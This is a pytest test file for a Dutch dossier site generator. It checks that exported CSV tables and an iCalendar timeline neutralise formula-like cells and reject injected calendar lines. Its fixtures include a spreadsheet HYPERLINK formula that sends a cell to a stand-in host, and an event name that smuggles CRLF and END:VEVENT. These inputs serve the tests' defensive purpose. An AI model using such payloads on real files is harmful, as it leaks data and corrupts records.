"""Every table and calendar to download goes through the one writer of its kind, whatever the texts begin with."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Final

import pytest
from jsonschema import Draft202012Validator

from generator import build
from generator.language.tables import schema
from generator.model import Page
from generator.output.csv_table import for_excel
from generator.settings import Settings
from tests import excel
from tests.support import write_all

_FORMULA: Final = '=HYPERLINK("http://elders.example/?x="&A1;"kade")'
_TABLES: Final = (
    "data/amounts.csv",
    "data/countries.csv",
    "data/references.csv",
    "data/terms.csv",
    "tijdlijn/tijdlijn.csv",
    "toezeggingen/toezeggingen.csv",
)
_TEXT: Final = f"""\
NOTA OVER DE KADE

1. KADE

{_FORMULA} kreeg op 4 maart 2015 uit COM(2014) 77 final 3 miljoen EUR.

- @SUM(A1;=B2) kreeg uiterlijk op 5 maart 2016 nog 4 miljoen EUR uit Richtlijn 2013/32/EU;

De Commissie zal vóór 31 december 2017 een havenfonds (HF) van 1 234,56 euro oprichten voor Tunesië; Turkije volgt,=1+1 later.
"""
_SIDECAR: Final = "id: kade\ntitle: Nota over de kade\ndate: '2015-11-04'\n"
_TERM: Final = '---\nterm: HF\nkind: fund\nsenses:\n  - expansion: =havenfonds\naliases: ["@fonds"]\n---\nEen fonds, @A1 voor één haven.\n'
_SETTINGS: Final = "site_url: https://havens.voorbeeld.nl/dossier\nsite_name: Havens\n"
_EVENT: Final = '---\nname: "=1+1;\\r\\nEND:VEVENT"\ndate: "2015-03-04"\nphrases: [kreeg]\n---\n=Havens.\n'


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Page]:
    """The files of a dossier whose sentences are formulas."""
    return made(tmp_path_factory.mktemp("tables"), "")


@pytest.fixture(scope="module")
def placed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Page]:
    """The same for a site that has an address."""
    return made(tmp_path_factory.mktemp("placed"), _SETTINGS)


def made(folder: Path, settings: str) -> dict[str, Page]:
    """The files of that dossier, for a site with these settings."""
    write_all(folder, {"kade.txt": _TEXT, "kade.yml": _SIDECAR, "events/kadedag.md": _EVENT, "glossary/hf.md": _TERM})
    write_all(folder.parent, {f"{folder.name}.yml": settings})
    dossier = build.gather(Settings(folder, folder / "docs", folder.with_suffix(".yml")))
    return {page.path: page for page in build.render(build.found_in(dossier), index=lambda _: ())}


def content(files: dict[str, Page], path: str) -> bytes:
    """A file of the site."""
    found = files[path].content
    return found if isinstance(found, bytes) else found.encode()


@pytest.mark.parametrize(
    ("path", "column"), [("data/amounts.csv", "zin"), ("data/references.csv", "woorden"), ("tijdlijn/tijdlijn.csv", "zin")]
)
def test_no_cell_of_any_table_is_a_formula(path: str, column: str, written: dict[str, Page]) -> None:
    content = written[path].content
    assert isinstance(content, bytes)
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows
    assert all(row[column] for row in rows)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@")) or ";=" in cell]


def test_the_tables_hold_the_sentences_that_would_be_formulas(written: dict[str, Page]) -> None:
    for path in ("data/amounts.csv", "tijdlijn/tijdlijn.csv"):
        content = written[path].content
        assert isinstance(content, bytes)
        assert "'=HYPERLINK(" in content.decode()
        assert "'@SUM(A1;'=B2)" in content.decode()


def test_every_table_and_calendar_of_the_site_is_here(written: dict[str, Page]) -> None:
    assert {path for path in written if path.endswith((".csv", ".ics"))} == {
        *_TABLES,
        *map(for_excel, _TABLES),
        "tijdlijn/tijdlijn.ics",
    }


def test_the_name_of_an_event_is_no_line_of_the_calendar(written: dict[str, Page]) -> None:
    content = written["tijdlijn/tijdlijn.ics"].content
    assert isinstance(content, bytes)
    assert content.count(b"\r\nBEGIN:VEVENT") == content.count(b"\r\nEND:VEVENT") > 0
    assert b"END:VEVENT\r\nEND:VCALENDAR" in content


@pytest.mark.parametrize("path", _TABLES)
def test_dutch_excel_opens_every_table_as_words_numbers_and_days(path: str, written: dict[str, Page]) -> None:
    data = content(written, for_excel(path))
    found = excel.columns(data)
    assert found, "a row has more cells, or fewer, than there are names"
    rows = list(csv.DictReader(io.StringIO(content(written, path).decode("utf-8-sig"), newline="")))
    assert [list(found), {len(cells) for cells in found.values()}] == [list(rows[0]), {len(rows)}]
    assert [cell for cells in found.values() for cell in cells if isinstance(cell, excel.Formula)] == []
    assert [cell for line in excel.opened(data, ",") for cell in line if isinstance(cell, excel.Formula)] == []


def test_dutch_excel_reads_the_numbers_as_they_are(written: dict[str, Page]) -> None:
    amounts = excel.columns(content(written, "data/amounts-excel.csv"))
    assert amounts["bedrag_eur"] == [3_000_000.0, 4_000_000.0, 1234.56]
    assert {type(cell) for cell in amounts["datum"]} == {date}
    countries = excel.columns(content(written, "data/countries-excel.csv"))
    assert countries["naam"] == ["Tunesië", "Turkije"]
    assert countries["vermeldingen"] == countries["documenten"] == [1.0, 1.0]
    assert countries["gebied"] == ["Noord-Afrika", "West-Azië"]
    terms = excel.columns(content(written, "data/terms-excel.csv"))
    assert [(terms[name]) for name in ("begrip", "voluit", "ook", "omschrijving", "vermeldingen")] == [
        ["HF"], ["'=havenfonds"], ["'@fonds"], ["Een fonds,' @A1 voor één haven."], [1.0],
    ]  # fmt: skip


def test_the_table_for_other_programs_would_go_wrong_in_dutch_excel_which_is_why_there_are_two(written: dict[str, Page]) -> None:
    rows = excel.opened(content(written, "data/amounts.csv"))
    assert {len(row) for row in rows} != {len(_columns(written))}


def _columns(written: dict[str, Page]) -> list[str]:
    return list(excel.columns(content(written, "data/amounts-excel.csv")))


@pytest.mark.parametrize("path", _TABLES)
def test_a_table_leads_to_the_site_from_anywhere_where_the_site_has_an_address(
    path: str, written: dict[str, Page], placed: dict[str, Page]
) -> None:
    column = "adres" if "url" not in _first(written, path) else "url"
    here, there = _first(written, path)[column], _first(placed, path)[column]
    assert not here.startswith(("/", "http"))
    assert there == f"https://havens.voorbeeld.nl/dossier/{here}"
    assert excel.columns(content(placed, for_excel(path)))[column][0] == there


def _first(files: dict[str, Page], path: str) -> dict[str, str]:
    return next(csv.DictReader(io.StringIO(content(files, path).decode("utf-8-sig"), newline="")))


def test_appointments_lead_to_the_site_where_it_has_an_address(written: dict[str, Page], placed: dict[str, Page]) -> None:
    calendar = content(placed, "tijdlijn/tijdlijn.ics").decode().replace("\r\n ", "")
    assert calendar.count("\r\nURL:https://havens.voorbeeld.nl/dossier/") == calendar.count("BEGIN:VEVENT") > 0
    assert "\r\nNAME:Havens: tijdlijn\r\n" in calendar
    assert all(line.endswith("@havens.voorbeeld.nl") for line in calendar.splitlines() if line.startswith("UID:"))
    bare = content(written, "tijdlijn/tijdlijn.ics").decode()
    assert "URL:" not in bare
    assert "example" not in bare


def test_the_catalogue_names_every_file_that_can_be_downloaded_and_no_other(written: dict[str, Page]) -> None:
    catalogue = json.loads(content(written, "data/index.json"))
    also = {told["path"] for entry in catalogue["files"] for told in entry.get("also", ())}
    feeds = {told["path"] for told in catalogue["feeds"]}
    assert also | feeds == {path for path in written if path.endswith((".csv", ".ics", ".atom"))}
    assert list(Draft202012Validator(schema("index")).iter_errors(catalogue)) == []
